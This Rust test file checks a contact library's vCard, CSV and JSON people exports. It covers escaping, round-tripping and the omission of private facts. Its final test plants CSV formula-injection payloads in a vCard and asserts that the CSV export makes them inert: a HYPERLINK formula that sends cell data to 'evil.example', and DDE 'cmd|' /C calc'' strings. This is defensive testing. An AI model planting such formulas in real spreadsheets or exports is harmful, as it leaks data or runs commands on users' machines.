//! The people export as files: vCard 4.0 and CSV written from the same never-safe view as
//! `people_export`, and read back to the same values.

use calcard::vcard::{VCard, VCardProperty};
use calcard::{Entry, Parser};
use sphere_api::domain::*;
use sphere_api::*;

type TestResult = Result<(), Box<dyn std::error::Error>>;

const NOTES: &str = "Runs the wellness benefits program; long talk about pricing, rollout; \\ and more.\nHer daughter Emma plays soccer at Lincoln High.";

struct World {
    s: Sphere,
    dana: Person,
    linked: Person,
}

fn world() -> Result<World, ApiError> {
    let s = Sphere::open_in_memory()?;
    let org = s.org_create(OrganizationInput {
        name: "Acme, Inc; Widgets".into(),
        ..Default::default()
    })?;
    s.person_create(PersonInput {
        first_name: "Ada".into(),
        last_name: Some("Lovelace".into()),
        ring: Some(Ring::Centre),
        ..Default::default()
    })?;
    let dana = s.person_create(PersonInput {
        first_name: "Dana".into(),
        last_name: Some("Øster-Long, Jr.".into()),
        emails: Some(vec!["dana@acme.com".into(), "d.oster@example.org".into()]),
        phones: Some(vec!["+1 555 0100".into()]),
        title: Some(
            "VP of People Operations and Very Long Titles That Need Folding, Worldwide".into(),
        ),
        organization_id: Some(org.id),
        tags: Some(vec![
            "client".into(),
            "golf; weekends".into(),
            "東京".into(),
        ]),
        notes: Some(NOTES.into()),
        ..Default::default()
    })?;
    for (category, value) in [
        ("children", "Emma, plays soccer at Lincoln High"),
        ("promotion", "promoted to VP in 2024"),
        ("certification", "PMP, 2023"),
    ] {
        s.fact_create(FactInput {
            person_id: dana.id,
            category: category.into(),
            value: value.into(),
            ..Default::default()
        })?;
    }
    // A person with a LinkedIn key, as an import from LinkedIn leaves one.
    s.import_log(ImportLogRequest {
        csv: "from,to,at,from_name,to_name\ngrace-hopper,https://www.linkedin.com/in/alan-turing,2024-01-02T03:04:05Z,Grace Hopper,Alan Turing\n".into(),
        source: Some("linkedin".into()),
    })?;
    let linked = s.resolve_person("Grace Hopper")?;
    Ok(World { s, dana, linked })
}

fn cards(text: &str) -> Vec<VCard> {
    let mut parser = Parser::new(text);
    let mut out = Vec::new();
    loop {
        match parser.entry() {
            Entry::VCard(c) => out.push(c),
            Entry::Eof => return out,
            other => panic!("not a vCard: {other:?}"),
        }
    }
}

fn texts(card: &VCard, prop: VCardProperty) -> Vec<String> {
    card.properties(&prop)
        .flat_map(|e| e.values.iter())
        .flat_map(|v| match v {
            calcard::vcard::VCardValue::Component(parts) => parts.clone(),
            other => other.as_text().map(str::to_string).into_iter().collect(),
        })
        .collect()
}

fn uid(card: &VCard) -> String {
    card.uid().unwrap_or_default().to_string()
}

#[test]
fn vcards_parse_back_to_the_same_values_without_never_facts() -> TestResult {
    let w = world()?;
    let file = w.s.people_export_file(ExportQuery {
        format: Some(ExportFormat::Vcard),
        ..Default::default()
    })?;
    assert_eq!(file.media_type, "text/vcard");
    assert!(file.file_name.starts_with("sphere-people-") && file.file_name.ends_with(".vcf"));
    assert_eq!(file.people, 4);
    assert_eq!(file.never_facts_left_out, 1);
    let text = &file.text;
    for line in text.split("\r\n") {
        assert!(
            !line.contains('\n') && !line.contains('\r'),
            "CRLF only: {line:?}"
        );
        assert!(
            line.len() <= 75,
            "folded at 75 octets: {line:?} is {}",
            line.len()
        );
    }
    assert!(text.starts_with("BEGIN:VCARD\r\nVERSION:4.0\r\n"), "{text}");
    assert!(!text.contains("Emma"), "never passages left out: {text}");

    let cards = cards(text);
    assert_eq!(cards.len(), 4);
    let dana = cards
        .iter()
        .find(|c| uid(c) == format!("urn:sphere:person:{}", w.dana.id))
        .ok_or("Dana's card")?;
    assert_eq!(
        texts(dana, VCardProperty::Fn),
        vec![w.dana.display_name.clone()]
    );
    assert_eq!(
        texts(dana, VCardProperty::N)[..2],
        [w.dana.last_name.clone(), w.dana.first_name.clone()]
    );
    assert_eq!(texts(dana, VCardProperty::Email), w.dana.emails);
    assert_eq!(texts(dana, VCardProperty::Tel), w.dana.phones);
    assert_eq!(
        texts(dana, VCardProperty::Org),
        vec!["Acme, Inc; Widgets".to_string()]
    );
    assert_eq!(
        texts(dana, VCardProperty::Title),
        vec![w.dana.title.clone()]
    );
    assert_eq!(texts(dana, VCardProperty::Categories), w.dana.tags);
    let note = texts(dana, VCardProperty::Note).join("");
    assert!(
        note.starts_with(
            "Runs the wellness benefits program; long talk about pricing, rollout; \\ and more.\n"
        ),
        "escaped and unescaped: {note:?}"
    );
    assert!(!note.contains("Emma"), "{note}");
    assert!(texts(dana, VCardProperty::Url).is_empty());

    let grace = cards
        .iter()
        .find(|c| uid(c) == format!("urn:sphere:person:{}", w.linked.id))
        .ok_or("Grace's card")?;
    assert_eq!(
        texts(grace, VCardProperty::Url),
        vec!["https://www.linkedin.com/in/grace-hopper".to_string()]
    );
    let alan = cards
        .iter()
        .find(|c| texts(c, VCardProperty::Fn) == ["Alan Turing"])
        .ok_or("Alan's card")?;
    assert_eq!(
        texts(alan, VCardProperty::Url),
        vec!["https://www.linkedin.com/in/alan-turing".to_string()],
        "a key that is a URL stays one"
    );

    // Asked for Dana, her never facts' passages come along.
    let one = w.s.people_export_file(ExportQuery {
        format: Some(ExportFormat::Vcard),
        include_never_for: Some(w.dana.id),
    })?;
    assert_eq!(one.never_facts_left_out, 0);
    let cards = self::cards(&one.text);
    let dana = cards
        .iter()
        .find(|c| uid(c) == format!("urn:sphere:person:{}", w.dana.id))
        .ok_or("Dana's card")?;
    assert_eq!(texts(dana, VCardProperty::Note).join(""), NOTES);
    Ok(())
}

#[test]
fn csv_has_a_row_per_person_with_non_never_facts() -> TestResult {
    let w = world()?;
    let file = w.s.people_export_file(ExportQuery {
        format: Some(ExportFormat::Csv),
        ..Default::default()
    })?;
    assert_eq!(file.media_type, "text/csv");
    assert!(file.file_name.ends_with(".csv"));
    let mut r = csv::Reader::from_reader(file.text.as_bytes());
    let header: Vec<String> = r.headers()?.iter().map(str::to_string).collect();
    assert_eq!(header, sphere_api::export::CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = r.records().collect::<Result<_, _>>()?;
    assert_eq!(rows.len(), 4);
    let dana = rows
        .iter()
        .find(|r| r.get(0) == Some(w.dana.id.to_string().as_str()))
        .ok_or("Dana's row")?;
    let col = |name: &str| {
        let i = header.iter().position(|h| h == name).unwrap_or(usize::MAX);
        dana.get(i).unwrap_or_default().to_string()
    };
    assert_eq!(col("last_name"), "Øster-Long, Jr.");
    assert_eq!(col("emails"), "dana@acme.com; d.oster@example.org");
    assert_eq!(col("organization"), "Acme, Inc; Widgets");
    assert_eq!(col("tags"), "client; golf; weekends; 東京");
    assert_eq!(col("ring"), "beyond");
    assert!(
        col("notes").starts_with("Runs the wellness"),
        "{}",
        col("notes")
    );
    assert_eq!(
        col("facts"),
        "promotion: promoted to VP in 2024; certification: PMP, 2023"
    );
    assert!(!file.text.contains("Emma"));
    Ok(())
}

#[test]
fn the_json_file_is_the_people_export_and_people_export_stays_json() -> TestResult {
    let w = world()?;
    let file = w.s.people_export_file(ExportQuery::default())?;
    assert_eq!(file.media_type, "application/json");
    let parsed: PeopleExport = serde_json::from_str(&file.text)?;
    let direct = w.s.people_export(ExportQuery::default())?;
    assert_eq!(parsed.people, direct.people);
    assert_eq!(parsed.never_facts_left_out, 1);
    let e =
        w.s.people_export(ExportQuery {
            format: Some(ExportFormat::Csv),
            ..Default::default()
        })
        .expect_err("people_export answers data");
    assert_eq!(e.field.as_deref(), Some("format"));
    let e =
        w.s.dispatch("people_export_file", serde_json::json!({"format": "pdf"}))
            .expect_err("no such format");
    assert_eq!(e.field.as_deref(), Some("format"));
    Ok(())
}

/// A shared vCard can plant a formula in a name or a note; imported and exported as CSV it
/// must come out as text a spreadsheet shows, not runs. Phone numbers and negative numbers
/// stay as they are.
#[test]
fn formula_cells_from_a_shared_vcard_come_out_inert_in_csv() -> TestResult {
    use base64::Engine as _;
    let s = Sphere::open_in_memory()?;
    s.person_create(PersonInput {
        first_name: "Ada".into(),
        ring: Some(Ring::Centre),
        ..Default::default()
    })?;
    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\n\
        N:Smith;=HYPERLINK(\"http://evil.example/?d=\"&A1\\,\"Click\");;;\r\n\
        FN:=HYPERLINK(\"http://evil.example/?d=\"&A1\\,\"Click\") Smith\r\n\
        TEL:+1 555 0100\r\n\
        TITLE:@SUM(1+9)*cmd|' /C calc'!A0\r\n\
        NOTE:-2+3+cmd|' /C calc'!A0\r\n\
        END:VCARD\r\n";
    s.import_commit(ImportFileRequest {
        file_name: "shared.vcf".into(),
        data: base64::engine::general_purpose::STANDARD.encode(card),
        ..Default::default()
    })?;
    let people = s.person_list(Default::default())?;
    let planted = people
        .items
        .iter()
        .find(|p| p.last_name == "Smith")
        .ok_or("the imported card")?;
    assert!(
        planted.first_name.starts_with("=HYPERLINK"),
        "the import keeps what the card says: {planted:?}"
    );
    s.fact_create(FactInput {
        person_id: planted.id,
        category: "certification".into(),
        value: "-1 point on the exam".into(),
        ..Default::default()
    })?;
    let file = s.people_export_file(ExportQuery {
        format: Some(ExportFormat::Csv),
        ..Default::default()
    })?;
    let mut r = csv::Reader::from_reader(file.text.as_bytes());
    let header: Vec<String> = r.headers()?.iter().map(str::to_string).collect();
    let row = r
        .records()
        .collect::<Result<Vec<_>, _>>()?
        .into_iter()
        .find(|r| r.get(0) == Some(planted.id.to_string().as_str()))
        .ok_or("the planted row")?;
    let col = |name: &str| {
        let i = header.iter().position(|h| h == name).unwrap_or(usize::MAX);
        row.get(i).unwrap_or_default().to_string()
    };
    for name in ["first_name", "title", "notes"] {
        let cell = col(name);
        assert!(
            cell.starts_with('\''),
            "{name} must start with the quote that makes it text: {cell:?}"
        );
        assert!(
            !cell[1..].starts_with('\''),
            "exactly one quote is added: {cell:?}"
        );
    }
    assert_eq!(
        col("first_name"),
        format!("'{}", planted.first_name),
        "the rest of the cell is the data, unchanged"
    );
    assert_eq!(col("phones"), "+1 555 0100", "a phone number stays usable");
    assert_eq!(col("last_name"), "Smith");
    assert_eq!(col("facts"), "certification: -1 point on the exam");
    // No line of the file starts a cell with a formula character outside quotes.
    for (n, cells) in file.text.lines().map(|l| l.to_string()).enumerate() {
        assert!(
            !cells.starts_with(['=', '@']),
            "line {n} starts with a formula: {cells}"
        );
    }
    Ok(())
}
